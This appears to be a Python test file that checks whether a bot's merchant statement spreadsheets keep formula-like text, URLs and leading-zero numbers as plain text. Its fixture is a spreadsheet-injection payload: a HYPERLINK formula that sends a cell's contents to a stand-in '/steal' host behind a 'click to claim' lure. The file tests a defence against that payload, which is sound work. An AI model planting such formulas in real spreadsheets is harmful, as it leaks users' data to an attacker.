"""Text from riders, merchants and files stays text in every XLSX the bot writes."""

from __future__ import annotations

import io
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from services import spreadsheet
from services.points import statement_xlsx
from storage.points import Code

FORMULA = '=HYPERLINK("http://203.0.113.9/steal?"&A1,"点击领取")'


def cells(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_an_item_named_like_a_formula_is_text_in_the_merchants_statement() -> None:
    code = Code("ABCDEFGH", 7, "好味快餐", FORMULA, 30, 0, 0, "used", 1_700_000_000, 701)
    rows = cells(statement_xlsx("好味快餐", "2026-11", [code], ZoneInfo("Asia/Shanghai")))
    assert rows[2][2] == FORMULA


def test_every_workbook_writes_formulas_urls_and_numbers_as_text() -> None:
    out = io.BytesIO()
    book = spreadsheet.workbook(out)
    book.add_worksheet("x").write_row(0, 0, [FORMULA, "https://example.org/a", "0012"])
    book.close()
    assert cells(out.getvalue())[0] == [FORMULA, "https://example.org/a", "0012"]
